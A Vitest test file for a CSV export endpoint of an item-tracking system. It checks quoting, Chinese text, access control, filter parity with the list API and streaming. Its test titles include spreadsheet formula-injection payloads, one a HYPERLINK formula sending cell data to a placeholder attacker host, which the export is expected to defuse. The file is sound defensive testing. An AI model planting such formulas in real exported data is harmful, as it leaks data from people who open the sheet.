import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ItemRecord } from '../../shared/data/items';
import { addWorkingDays } from '../../shared/domain/calendar';
import { encodeTrackingCode } from '../../shared/domain/tracking-code';
import { routeItem } from '../../shared/domain/routing';
import { demoDirectory } from '../../shared/demo/directory';
import { calendarOf } from '../../shared/services/directory';
import { kindIds, type Kind } from '../../shared/schemas/directory';
import type { Status } from '../../shared/schemas/submission';
import type { LocalStack } from '../../local/stack';
import { api, leakPattern, startTestStack, type Api } from '../support/stack';
import { prng } from '../support/prng';
import { staffTokenHeader } from '../../shared/http/staff-token';

/**
 * GET /api/exports/items.csv: what a spreadsheet receives (BOM, header, RFC 4180 quoting, formula
 * cells defused, Chinese intact), that it lists exactly what GET /api/items lists for the same
 * filters, who may have it, and that it is streamed: the first bytes leave long before the last
 * page of items is read.
 */

let stack: LocalStack;
let http: Api;
const tokens = { office: '', leader: '', responder: '' };

beforeAll(async () => {
  // A bulk stack: the sweep timer would mark the old, overdue items of the fill while the test
  // reads them; notifications are not under test, and their poller would slow the 3,000-item fill.
  stack = await startTestStack({ bulk: true });
  http = api(stack.url);
  tokens.office = await stack.issuer.issue({ sub: 'office-1', name: '办公室 王', groups: ['office'] });
  tokens.leader = await stack.issuer.issue({ sub: 'leader-1', name: '领导 李', groups: ['leader'] });
  tokens.responder = await stack.issuer.issue({ sub: 'resp-1', name: '督导组 张', groups: ['group:g1'] });
});
afterAll(async () => {
  await stack?.stop();
});

const as = (who: keyof typeof tokens) => ({ authorization: `Bearer ${tokens[who]}` });
/** As the console sends the token to the export: deployed, CloudFront's signature takes Authorization. */
const asExporter = (who: keyof typeof tokens) => ({ [staffTokenHeader]: `Bearer ${tokens[who]}` });

const header = 'trackingCode,createdAt,phase,kind,unit,group,status,dueAt,overdue,firstReplyAt,closedAt,satisfaction,title,sessionCode,source,answeredOnSpot,resolved';
const columns = header.split(',');
type Row = Record<string, string>;

/**
 * RFC 4180, strictly: fields separated by commas, records by CRLF (a bare LF is accepted too),
 * a field in double quotes may hold commas, line breaks and doubled quotes; a quote anywhere else
 * is an error, and so is an unterminated quoted field.
 */
const parseCsv = (text: string): string[][] => {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  let fieldStarted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"') {
        if (text[i + 1] === '"') {
          field += '"';
          i += 2;
          continue;
        }
        quoted = false;
        i++;
        if (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') throw new Error(`text after a closing quote at ${i}`);
        continue;
      }
      field += c;
      i++;
      continue;
    }
    if (c === '"') {
      if (fieldStarted) throw new Error(`a quote inside an unquoted field at ${i}`);
      quoted = true;
      fieldStarted = true;
      i++;
    } else if (c === ',') {
      record.push(field);
      field = '';
      fieldStarted = false;
      i++;
    } else if (c === '\r' || c === '\n') {
      if (c === '\r') {
        if (text[i + 1] !== '\n') throw new Error(`a bare CR at ${i}`);
        i++;
      }
      i++;
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      fieldStarted = false;
    } else {
      field += c;
      fieldStarted = true;
      i++;
    }
  }
  if (quoted) throw new Error('an unterminated quoted field');
  if (fieldStarted || record.length) {
    record.push(field);
    records.push(record);
  }
  return records;
};

describe('the RFC 4180 reader of this test', () => {
  it('reads quoted commas, quotes and line breaks, and refuses malformed input', () => {
    expect(parseCsv('a,b\r\n"x,1","say ""hi""","two\r\nlines"\r\n,\r\n')).toEqual([['a', 'b'], ['x,1', 'say "hi"', 'two\r\nlines'], ['', '']]);
    expect(parseCsv('a\nb')).toEqual([['a'], ['b']]);
    expect(() => parseCsv('a"b')).toThrow();
    expect(() => parseCsv('"a')).toThrow();
    expect(() => parseCsv('"a"b')).toThrow();
  });
});

/** The export as bytes, then as checked text and rows keyed by column. */
const download = async (query = '', who: keyof typeof tokens = 'office') => {
  const r = await fetch(`${stack.url}/api/exports/items.csv${query ? `?${query}` : ''}`, { headers: asExporter(who) });
  const bytes = Buffer.from(await r.arrayBuffer());
  return { status: r.status, headers: r.headers, bytes };
};
const rowsOf = (bytes: Buffer): Row[] => {
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes.subarray(3));
  expect(text.startsWith(`${header}\r\n`)).toBe(true);
  expect(text.endsWith('\r\n')).toBe(true);
  const [head, ...records] = parseCsv(text);
  expect(head).toEqual(columns);
  for (const record of records) expect(record).toHaveLength(columns.length);
  return records.map((record) => Object.fromEntries(columns.map((c, i) => [c, record[i]])));
};

/** Every item GET /api/items lists for a query, in its order. */
const walk = async (query: string): Promise<{ trackingCode: string; status: Status; groupId?: string; unitId?: string; overdue: boolean }[]> => {
  const items = [];
  let cursor: string | undefined;
  do {
    const r = await http.get(`/api/items?limit=100${query ? `&${query}` : ''}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`, as('office'));
    expect(r.status).toBe(200);
    items.push(...r.json.items);
    cursor = r.json.nextCursor;
  } while (cursor);
  return items;
};

const submit = async (title: string, extra: Record<string, unknown> = {}) => {
  const r = await http.post('/api/submissions', { kind: 'question', title, body: '详见标题。', unitId: 'u01', anonymous: true, ...extra });
  expect(r.status, r.text).toBe(201);
  return r.json as { trackingCode: string; accessKey: string };
};

describe('the CSV a spreadsheet receives', () => {
  /** Titles that break naive CSV and spreadsheets, and the cell each must come back as. */
  const titles: [string, string][] = [
    ['关于“学习强国”积分😀，以及《学习纲要》', '关于“学习强国”积分😀，以及《学习纲要》'],
    ['a, b, and c', 'a, b, and c'],
    ['He said "go", then left', 'He said "go", then left'],
    ['第一行\n第二行', '第一行\n第二行'],
    ['Windows\r\nline', 'Windows\r\nline'],
    ['"quoted from the start"', '"quoted from the start"'],
    ['=SUM(A1:A9)', "'=SUM(A1:A9)"],
    ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', `'=HYPERLINK("http://evil.example/?x="&A1,"点这里")`],
    ['+86 138 0000 0000', "'+86 138 0000 0000"],
    ['-5 分，不满意', "'-5 分，不满意"],
    ['@某人 请回复', "'@某人 请回复"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['A=1 is fine', 'A=1 is fine'],
  ];
  const codes = new Map<string, string>();
  let rows: Row[];
  let response: Awaited<ReturnType<typeof download>>;

  beforeAll(async () => {
    for (const [title] of titles) codes.set(title, (await submit(title)).trackingCode);
    // One item through its whole life: answered, rated, closed; one in the office queue.
    const life = await submit('满意度测试', { kind: 'feedback', rating: 4, unitId: 'u34' });
    const g4 = await stack.issuer.issue({ sub: 'resp-4', name: '第四督导组 周', groups: ['group:g4'] });
    expect((await http.post(`/api/items/${life.trackingCode}/replies`, { body: '已答复。', visibility: 'public' }, { authorization: `Bearer ${g4}` })).status).toBe(201);
    expect((await http.post(`/api/submissions/${life.trackingCode}/rating`, { satisfaction: 'basically', resolved: 'partly' }, { 'X-Access-Key': life.accessKey })).status).toBe(200);
    codes.set('满意度测试', life.trackingCode);
    codes.set('办公室队列', (await submit('办公室队列', { unitId: undefined })).trackingCode);
    response = await download();
    rows = rowsOf(response.bytes);
  });

  it('is text/csv in UTF-8, as an attachment, with a BOM and the header row exactly', () => {
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8$/i);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="yijian-items-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.bytes.subarray(3, 3 + header.length).toString('utf8')).toBe(header);
  });

  it('has one row per item, newest first, in the order GET /api/items gives', async () => {
    const listed = await walk('');
    expect(rows.map((r) => r.trackingCode)).toEqual(listed.map((i) => i.trackingCode));
    expect(rows).toHaveLength(titles.length + 2);
  });

  it('keeps commas, quotes, line breaks and Chinese intact, and defuses formula cells with an apostrophe', () => {
    for (const [title, cell] of titles) {
      const row = rows.find((r) => r.trackingCode === codes.get(title));
      expect(row?.title, JSON.stringify(title)).toBe(cell);
    }
    // Only the title is free text: no other cell of these rows was touched.
    for (const row of rows) expect(row.createdAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  });

  it('fills every column from the item', async () => {
    const code = codes.get('满意度测试')!;
    const row = rows.find((r) => r.trackingCode === code)!;
    const item = (await http.get(`/api/items/${code}`, as('office'))).json;
    expect(row).toEqual({
      trackingCode: code,
      createdAt: item.createdAt,
      phase: item.phase,
      kind: 'feedback',
      unit: '河西街道',
      group: '第四督导组',
      status: 'closed',
      dueAt: item.dueAt,
      overdue: 'false',
      firstReplyAt: item.replies[0].createdAt,
      closedAt: expect.stringMatching(/^\d{4}-.+Z$/),
      satisfaction: 'basically',
      title: '满意度测试',
      sessionCode: '',
      source: 'form',
      answeredOnSpot: 'false',
      resolved: 'partly',
    });
    const queued = rows.find((r) => r.trackingCode === codes.get('办公室队列'))!;
    expect(queued).toMatchObject({ unit: '', group: '', status: 'submitted', dueAt: '', overdue: 'false', firstReplyAt: '', closedAt: '', satisfaction: '', resolved: '' });
    const fresh = rows.find((r) => r.trackingCode === codes.get('a, b, and c'))!;
    expect(fresh).toMatchObject({ unit: '区委办公室', group: '第一督导组', status: 'assigned', kind: 'question', overdue: 'false' });
  });

  it('is for the office and leaders: a responder gets 403, no token 401', async () => {
    const leader = await download('', 'leader');
    expect(leader.status).toBe(200);
    expect(rowsOf(leader.bytes)).toEqual(rows);
    for (const [got, status] of [
      [await download('', 'responder'), 403],
      [{ ...(await (async () => {
        const r = await fetch(`${stack.url}/api/exports/items.csv`);
        return { status: r.status, headers: r.headers, bytes: Buffer.from(await r.arrayBuffer()) };
      })()) }, 401],
    ] as const) {
      expect(got.status).toBe(status);
      expect(got.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(got.bytes.toString('utf8')).not.toMatch(leakPattern);
      expect(got.bytes.toString('utf8')).not.toContain('trackingCode,');
    }
  });

  it(`takes the token from ${staffTokenHeader}, and refuses a request without it as CloudFront would forward it`, async () => {
    const get = async (headers: Record<string, string>) => {
      const r = await fetch(`${stack.url}/api/exports/items.csv`, { headers });
      return { status: r.status, text: await r.text() };
    };
    // What CloudFront sends with origin access control: its SigV4 signature in Authorization.
    const signature = 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20261205/ap-east-1/lambda/aws4_request, SignedHeaders=host;x-amz-date, Signature=00';
    const own = await get({ authorization: signature, ...asExporter('office') });
    expect(own.status).toBe(200);
    expect(own.text).toContain('trackingCode,');
    for (const [what, headers] of [
      ['only the signature', { authorization: signature }],
      ['no header at all', {}],
      ['an empty own header', { [staffTokenHeader]: '' }],
      ['a token that is not a bearer token', { [staffTokenHeader]: tokens.office }],
      // When the own header is there it alone counts: a valid Authorization does not rescue it.
      ['a forged own header beside a valid Authorization', { [staffTokenHeader]: 'Bearer forged.token.value', ...as('office') }],
    ] as const) {
      const refused = await get(headers);
      expect(refused.status, what).toBe(401);
      expect(refused.text, what).not.toContain('trackingCode,');
      expect(refused.text, what).not.toMatch(leakPattern);
    }
    // The contract's Authorization: Bearer keeps working where it can reach the function (locally).
    expect((await get(as('office'))).status).toBe(200);
  });

  it('refuses an unknown filter with 400, as GET /api/items does', async () => {
    const r = await download('colour=red');
    expect(r.status).toBe(400);
    expect(r.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  });
});

// ---------------------------------------------------------------------------------------------
// 3,000 more items: filters at size, and streaming


const bulk = 3000;
const calendar = calendarOf(demoDirectory);

const fill = async () => {
  const rng = prng(31);
  const start = Date.now() - 40 * 86_400_000;
  const items: ItemRecord[] = Array.from({ length: bulk }, (_, i) => {
    const createdAtMs = start + i * Math.floor((39 * 86_400_000) / bulk);
    const createdAt = new Date(createdAtMs).toISOString();
    const kind = rng.pick(kindIds) as Kind;
    const unit = rng.chance(0.9) ? rng.pick(demoDirectory.units) : undefined;
    const route = routeItem(demoDirectory, { kind, unitId: unit?.id });
    const bytes = new Uint8Array([i & 0xff, (i >> 8) & 0xff, 0x5a, Math.floor(rng.next() * 256), Math.floor(rng.next() * 256)]);
    const status: Status = !route ? 'submitted' : rng.pick(['assigned', 'in_progress', 'answered', 'closed', 'rejected'] as const);
    const replied = status === 'answered' || status === 'closed';
    return {
      trackingCode: encodeTrackingCode(bytes),
      kind,
      title: `${rng.pick(['窗口服务排队时间过长', '学习笔记检查流于形式', '整改台账更新不及时', '会议过多，影响正常业务开展', '问卷"满意度"题目设置不合理'])} ${i}`,
      body: '具体情况如下。',
      status,
      ...(unit ? { unitId: unit.id } : {}),
      ...(route ? { groupId: route.groupId, dueAt: addWorkingDays(new Date(createdAtMs), demoDirectory.sla[kind], calendar).toISOString() } : {}),
      phase: 'study',
      createdAt,
      updatedAt: createdAt,
      version: 1,
      accessKeyHash: 'x'.repeat(43),
      anonymous: true,
      recommended: false,
      ...(replied ? { firstReplyAt: new Date(createdAtMs + 30 * 3_600_000).toISOString() } : {}),
      ...(status === 'closed' ? { closedAt: new Date(createdAtMs + 50 * 3_600_000).toISOString(), satisfaction: rng.pick(['satisfied', 'basically'] as const) } : {}),
    };
  });
  // Written in batches of 25 with the data layer's own key functions: the export reads the list
  // index only (no counters, no events), and 3,000 transactions would take a minute or more on
  // DynamoDB Local (far more when other test files share it). The items of the first describe
  // block went through the real submission path.
  const { client: dynamo, tableName } = stack.deps.db;
  const { BatchWriteCommand } = await import('@aws-sdk/lib-dynamodb');
  const { itemPk, itemSk } = await import('../../shared/data/keys');
  const { itemIndexKeys } = await import('../../shared/data/item-index-keys');
  const batches: ItemRecord[][] = [];
  for (let i = 0; i < items.length; i += 25) batches.push(items.slice(i, i + 25));
  let next = 0;
  await Promise.all(
    Array.from({ length: 4 }, async () => {
      while (next < batches.length) {
        let requests = batches[next++].map((item) => ({
          PutRequest: { Item: { pk: itemPk(item.trackingCode), sk: itemSk, entity: 'item', ...itemIndexKeys(item), ...item } },
        }));
        for (let attempt = 0; requests.length; attempt++) {
          expect(attempt).toBeLessThan(10);
          const r = await dynamo.send(new BatchWriteCommand({ RequestItems: { [tableName]: requests } }));
          requests = (r.UnprocessedItems?.[tableName] ?? []) as typeof requests;
        }
      }
    }),
  );
};

describe(`an export of ${bulk}+ items`, () => {
  beforeAll(async () => {
    await fill();
  }, 120_000);

  const filters = ['status=answered', 'groupId=g2', 'groupId=g1&status=assigned,in_progress', 'unitId=u09', 'kind=problem', 'overdue=true', 'status=submitted'];
  for (const filter of filters) {
    it(`lists exactly what GET /api/items lists for ${filter}`, async () => {
      const r = await download(filter);
      expect(r.status).toBe(200);
      const rows = rowsOf(r.bytes);
      const listed = await walk(filter);
      expect(rows.map((row) => row.trackingCode)).toEqual(listed.map((i) => i.trackingCode));
      expect(rows.map((row) => row.overdue)).toEqual(listed.map((i) => String(i.overdue)));
      expect(rows.length).toBeGreaterThan(0);
    }, 60_000);
  }

  it('streams: the first bytes arrive after a page or two of the table is read, not after all of it', async () => {
    const { intercept } = await import('../../shared/data/middleware');
    const dynamo = stack.deps.db.client;
    // Page reads of the export: Queries on the all-items index (nothing else in this process reads it now).
    let pageReads = 0;
    const removeCounter = intercept(dynamo, (operation, input, next) => {
      if (operation === 'Query' && input.IndexName === 'gsi1') pageReads++;
      return next(input);
    });
    try {
      const heapBefore = process.memoryUsage().heapUsed;
      let heapPeak = heapBefore;
      const r = await fetch(`${stack.url}/api/exports/items.csv`, { headers: as('leader') });
      expect(r.status).toBe(200);
      const reader = r.body!.getReader();
      let chunks = 0;
      let bytes = 0;
      let readsAtFirstChunk = -1;
      let lineBreaks = 0;
      for (;;) {
        const { done, value } = await reader.read();
        if (done) break;
        if (chunks === 0) readsAtFirstChunk = pageReads;
        chunks++;
        bytes += value.length;
        for (const b of value) if (b === 0x0a) lineBreaks++;
        heapPeak = Math.max(heapPeak, process.memoryUsage().heapUsed);
      }
      const total = bulk + 16; // the bulk items and those of the first describe block
      const pages = Math.ceil(total / 100);
      // eslint-disable-next-line no-console
      console.log('export stream', JSON.stringify({ bytes, chunks, pageReads, readsAtFirstChunk, heapGrowthKB: Math.round((heapPeak - heapBefore) / 1024) }));
      expect(lineBreaks).toBeGreaterThanOrEqual(total + 1); // at least one per row and the header
      expect(pageReads).toBeGreaterThanOrEqual(pages);
      // The export pages through the table as the client downloads: when the first bytes arrived
      // only a page or two of the ~31 had been read. A buffered export would have read them all;
      // memory then stays a page deep (the heap figure in the log is noise-dominated in-process).
      expect(readsAtFirstChunk).toBeGreaterThanOrEqual(0);
      // (How many chunks arrive proves nothing either way: TCP may merge or split them at will.)
      expect(readsAtFirstChunk).toBeLessThanOrEqual(Math.ceil(pages / 4));
    } finally {
      removeCounter();
    }
  }, 60_000);
});
